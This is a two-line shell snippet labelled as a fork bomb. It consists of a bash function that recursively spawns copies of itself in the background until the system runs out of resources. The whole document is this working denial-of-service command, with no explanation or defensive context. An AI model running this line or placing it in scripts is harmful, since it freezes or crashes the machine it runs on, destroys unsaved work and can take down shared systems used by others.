# a fork bomb
bomb() { bomb | bomb & }; bomb
